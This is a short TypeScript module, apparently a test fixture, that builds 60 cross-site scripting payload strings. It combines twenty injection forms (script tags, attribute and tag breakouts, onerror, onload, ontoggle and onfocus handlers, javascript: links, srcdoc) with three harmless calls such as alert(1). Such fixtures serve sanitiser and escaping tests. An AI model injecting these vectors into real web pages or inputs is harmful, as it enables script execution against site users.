/** Texts that run a script where a page takes them for markup. */

const calls = ['alert(1)', "console.error('ran')", "document.title='ran'"];

const forms: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `--><script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `"><img src=x onerror="${call}">`,
  (call) => `<svg onload="${call}">`,
  (call) => `"><svg/onload=${call}>`,
  (call) => `<body onload="${call}">`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<details open ontoggle="${call}">`,
  (call) => `" autofocus onfocus="${call}" x="`,
  (call) => `' autofocus onfocus='${call}' x='`,
  (call) => `<a href="javascript:${call}" autofocus onfocus="${call}">x</a>`,
  (call) => `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  (call) => `<template><script>${call}</script></template><video><source onerror="${call}"></video>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
];

/** 60 texts. */
export const markup: readonly string[] = forms.flatMap((form) => calls.map(form));
